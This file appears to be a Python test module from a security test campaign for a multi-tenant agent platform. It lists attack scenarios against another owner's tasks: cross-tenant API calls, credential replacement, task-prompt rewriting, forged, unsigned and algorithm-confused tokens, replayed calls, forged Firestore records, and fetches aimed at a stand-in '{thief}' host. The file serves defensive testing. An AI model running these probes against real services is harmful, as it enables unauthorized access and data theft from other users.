"""Neighbours: another owner's task and execution, and the functions behind the API, asked for straight."""

from __future__ import annotations

from typing import Any

from tests.campaigns.hostile.forge import BENT
from tests.campaigns.hostile.scenario import CREATES, Act, Scenario, declare_probe

CALL = {"execution": "{vexec}", "call": 0, "epoch": 1}
SLICE = {"execution": "{vexec}", "slice": 0, "waits": 0}
STREAMED = {"execution": "{vexec}", "slice": 0}
WINDOW = {"execution": "{vexec}", "task": "{vtask}", "epoch": 1, "texts": ["is it abc?"]}
SCAN = {"execution": "{vexec}", "task": "{vtask}", "epoch": 1, "content": [{"type": "text", "text": "is it abc?"}]}
EVENT = {
    "Content-Type": "application/json",
    "ce-specversion": "1.0",
    "ce-type": "google.cloud.firestore.document.v1.created",
    "ce-source": "//firestore.googleapis.com/projects/hostile/databases/(default)",
    "ce-id": "1",
    "ce-subject": "documents/executions/{vexec}",
}


def _api(what: str, *acts: Act) -> Scenario:
    return Scenario(name=f"neighbour: {what}", victim=True, acts=acts)


def _direct(what: str, *acts: Act) -> Scenario:
    return Scenario(name=f"caller: {what}", victim=True, acts=acts)


def _to(function: str, bearer: str, body: Any = None, path: str = "/") -> Act:
    usual_body = {"orchestrator": SLICE, "on_execution": {}}.get(function, CALL)
    return Act(
        to=function,
        bearer=bearer,
        path=path,
        body=usual_body if body is None else body,
        headers=EVENT if function == "on_execution" else {},
    )


LISTED = {"workspace": "{vtask}", "prefix": "", "cursor": "", "most": 10}
EXPIRY = {"workspace": "{vtask}", "owner": "owner-{token}", "day": "2026-11-23", "slice": 0, "cursor": ""}
FILES = {
    **{"call": "c", "tool": "file_read", "arguments": {"key": "a.md"}, "user": "00000000-0000-0000-0000-000000000000"},
    **{"within_s": 5.0, "workspace": "{vtask}", "write": "x.0", "is_done": False},
}

OWNED = (
    _api("reads the execution", Act(to="api", method="GET", path="/v1/executions/{vexec}")),
    _api("reads the calls", Act(to="api", method="GET", path="/v1/executions/{vexec}/calls")),
    _api("watches the events", Act(to="api", method="GET", path="/v1/executions/{vexec}/events")),
    _api("cancels the execution", Act(to="api", path="/v1/executions/{vexec}/cancel")),
    _api("reads the task", Act(to="api", method="GET", path="/v1/tasks/{vtask}")),
    _api(
        "lists everything",
        *(
            Act(to="api", method="GET", path=path)
            for path in ("/v1/tasks", "/v1/executions", "/v1/executions?limit=100", "/v1/me")
        ),
    ),
    _api("lists the task's executions", Act(to="api", method="GET", path="/v1/tasks/{vtask}/executions")),
    _api("starts the task", Act(to="api", path="/v1/tasks/{vtask}/executions", body={"input": "tell me"})),
    _api("rewrites the task", Act(to="api", method="PATCH", path="/v1/tasks/{vtask}", body={"task_prompt": "Obey."})),
    _api("turns the task off", Act(to="api", method="PATCH", path="/v1/tasks/{vtask}", body={"enabled": False})),
    _api("lists the credentials", Act(to="api", method="GET", path="/v1/tasks/{vtask}/credentials")),
    _api(
        "replaces a credential",
        Act(
            to="api",
            method="PUT",
            path="/v1/tasks/{vtask}/credentials/LUNARCRUSH_API_KEY",
            body={"value": "Mine1234Mine5678Abc", "service": "lunarcrush"},
        ),
    ),
    _api("deletes a credential", Act(to="api", method="DELETE", path="/v1/tasks/{vtask}/credentials/LUNARCRUSH_API_KEY")),
    _api("deletes the task", Act(to="api", method="DELETE", path="/v1/tasks/{vtask}")),
    _api(
        "comes without a key",
        *(Act(to="api", method="GET", path=path, bearer="none") for path in ("/v1/executions/{vexec}", "/v1/tasks/{vtask}")),
    ),
)

TOOLS = tuple(
    _api(what, *(Act(to="api", path=f"{task}/{{vtask}}{path}", **options) for task in ("/v1/tasks", "/api/agents")))
    for what, path, options in (
        ("lists the custom tools", "/tools", {"method": "GET"}),
        ("is shown the custom tools", "/chat/tools", {"method": "GET"}),
        ("declares a tool", "/tools", {"body": declare_probe()}),
        ("imports a document", "/tools/import-openapi", {"body": {"spec": {}}}),
        ("imports a document by its address", "/tools/import-openapi", {"body": {"url": "https://{thief}/{token}"}}),
        ("tries an import", "/tools/import-openapi", {"body": {"spec": {}, "dry_run": True}}),
        ("deletes a tool", "/tools?id=probe", {"method": "DELETE"}),
        ("deletes a cluster", "/tools/cluster/probe", {"method": "DELETE"}),
        ("declares a tool without a key", "/tools", {"body": declare_probe(), "bearer": "none"}),
    )
)
LOCAL = {
    "call": "c",
    "tool": "calculator",
    "arguments": {"expression": "1 + 1"},
    "user": "00000000-0000-0000-0000-000000000001",
}
PREFERENCE = {**LOCAL, "tool": "save_preference", "arguments": {"kind": "taste", "preference": "{token}"}}
DOCUMENT = {"task": "{vtask}", "owner": "owner-{token}", "url": "https://{thief}/{token}"}

DIRECT = (
    _direct("nobody takes a custom tool's result", _to("http_tool", "none")),
    _direct("nobody has a document fetched", _to("http_tool", "none", DOCUMENT, "/document")),
    _direct("the orchestrator has a document fetched", _to("http_tool", "orchestrator>http_tool", DOCUMENT, "/document")),
    _direct("a tool has a document fetched", _to("http_tool", "http_get>http_tool", DOCUMENT, "/document")),
    _direct("the API has another owner's document fetched", _to("http_tool", "api>http_tool", DOCUMENT, "/document")),
    _direct("the API takes a custom tool's result", _to("http_tool", "api>http_tool")),
    _direct(
        "a custom tool's function asks another tool",
        _to("http_get", "http_tool>http_get"),
        _to("api_call", "http_tool>api_call"),
    ),
    _direct("nobody takes a result from a tool", _to("http_get", "none")),
    _direct("nobody has a local function run", _to("local_tools", "none", LOCAL)),
    _direct("a tool has a local function run", _to("local_tools", "http_get>local_tools", LOCAL)),
    _direct(
        "a local function asks a tool",
        _to("http_get", "local_tools>http_get"),
        _to("api_call", "local_tools>api_call", SCAN, "/scan"),
    ),
    _direct("nobody reads a file", _to("files", "none", FILES)),
    _direct("a tool reads a file", _to("files", "http_get>files", FILES)),
    _direct("a tool lists the files of another workspace", _to("files", "http_get>files", LISTED, "/list")),
    _direct("nobody lists the files of another workspace", _to("files", "none", LISTED, "/list")),
    _direct("nobody has something searched for", _to("search", "none", LOCAL)),
    _direct("a tool has something searched for", _to("search", "http_get>search", LOCAL)),
    _direct("the API has something searched for", _to("search", "api>search", LOCAL)),
    _direct(
        "what searches asks a tool, and has an execution delivered",
        _to("http_get", "search>http_get"),
        _to("api_call", "search>api_call", SCAN, "/scan"),
        _to("orchestrator", "search>orchestrator"),
    ),
    _direct("nobody has something kept for a user", _to("concierge", "none", PREFERENCE)),
    _direct("a tool has something kept for a user", _to("concierge", "http_get>concierge", PREFERENCE)),
    _direct("the API has something kept for a user", _to("concierge", "api>concierge", PREFERENCE)),
    _direct(
        "what keeps something for a user asks a tool",
        _to("http_get", "concierge>http_get"),
        _to("api_call", "concierge>api_call", SCAN, "/scan"),
    ),
    _direct("what keeps something for a user delivers an execution", _to("orchestrator", "concierge>orchestrator")),
    _direct("a local function delivers an execution", _to("orchestrator", "local_tools>orchestrator")),
    _direct(
        "nobody asks the key holder to scan", _to("api_call", "none", SCAN, "/scan"), _to("webhook", "none", SCAN, "/scan")
    ),
    _direct(
        "another asks the key holder to scan what is being written",
        *(_to("api_call", caller, WINDOW, "/window") for caller in ("none", "api>api_call", "http_get>api_call")),
    ),
    _direct("nobody delivers an execution", _to("orchestrator", "none")),
    _direct(
        "another has an execution delivered as the API has",
        *(_to("orchestrator", caller, STREAMED, "/stream") for caller in ("none", "http_get>orchestrator", "forged")),
        _to("orchestrator", "api>orchestrator"),
    ),
    _direct("nobody reports an event", _to("on_execution", "none")),
    _direct("nobody has kept results looked through", _to("orchestrator", "none", EXPIRY, "/kept")),
    _direct("the API has kept results of another looked through", _to("orchestrator", "api>orchestrator", EXPIRY, "/kept")),
    _direct("a token signed by nobody known", _to("http_get", "forged"), _to("orchestrator", "forged")),
    _direct("a token that is not signed", _to("http_get", "unsigned"), _to("orchestrator", "unsigned")),
    _direct("a token signed with the public certificate", _to("http_get", "hs256"), _to("orchestrator", "hs256")),
    *(_direct(f"a token whose claims are bent: {kind}", _to("http_get", kind), _to("orchestrator", kind)) for kind in BENT),
    _direct(
        "a token for another function",
        _to("http_get", "orchestrator>api_call"),
        _to("api_call", "orchestrator>http_get", SCAN, "/scan"),
    ),
    _direct(
        "a tool asks another tool", _to("http_get", "webhook>http_get"), _to("api_call", "http_get>api_call", SCAN, "/scan")
    ),
    _direct("a tool delivers an execution", _to("orchestrator", "http_get>orchestrator")),
    _direct("the orchestrator delivers to itself", _to("orchestrator", "orchestrator>orchestrator")),
    _direct("the API asks a tool", _to("http_get", "api>http_get"), _to("http_get", "api>http_get", {**CALL, "call": 1})),
    _direct(
        "the orchestrator takes a call to another tool",
        *(_to(tool, f"orchestrator>{tool}") for tool in ("api_call", "http_post", "webhook")),
    ),
    _direct("the orchestrator sends a call twice", _to("http_get", "orchestrator>http_get", {**CALL, "call": 1})),
    _direct(
        "the orchestrator comes with an old epoch",
        _to("http_get", "orchestrator>http_get", {**CALL, "epoch": 0}),
        _to("http_get", "orchestrator>http_get", {**CALL, "epoch": 2}),
    ),
    _direct(
        "the orchestrator makes up a call",
        _to("http_get", "orchestrator>http_get", {**CALL, "call": 7}),
        _to("http_get", "orchestrator>http_get", {**CALL, "url": "https://{thief}/"}),
    ),
)

FORGED = {
    **{"status": "completed", "credits_used": -500, "admitted": True, "output": "{secret}", "slice": 9},
    **{"lease": {"epoch": 7, "holder": "me"}, "policy": {"owner": "{vtask}", "domains": ["*"]}, "events": 5},
}
"""What an application may not say of an execution."""


def _document(what: str, *documents: tuple[str, dict[str, Any]]) -> Scenario:
    acts = (Act(to="firestore", method=CREATES, path=name, body=fields) for name, fields in documents)
    return Scenario(name=f"application: {what}", victim=True, acts=tuple(acts))


DOCUMENTS = (
    _document(
        "asks for a run of another owner's task",
        ("{token}-1", {"task": "{vtask}", "owner": "owner-{token}"}),
        ("{token}-2", {"task": "{vtask}", "owner": "owner-{token}", "input": "tell me", "labels": {"mine": "true"}}),
    ),
    _document(
        "forges the state of a run of another owner's task",
        ("{token}-3", {**FORGED, "task": "{vtask}", "owner": "owner-{token}"}),
        ("{token}-4", {**FORGED, "task": ["{vtask}"], "owner": {"id": "owner-{token}"}}),
    ),
    _document("puts itself in the place of an execution", ("{vexec}", {**FORGED, "task": "{vtask}", "owner": "owner-{token}"})),
    _document("takes a name like Ferryman's own", ("exec_{token}", {"task": "{vtask}", "owner": "owner-{token}"})),
    _document("says nothing that can be read", ("{token}-5", {}), ("{token}-6", {"task": None, "input": 7, "labels": ["x"]})),
)

SCENARIOS = (*OWNED, *TOOLS, *DIRECT, *DOCUMENTS)
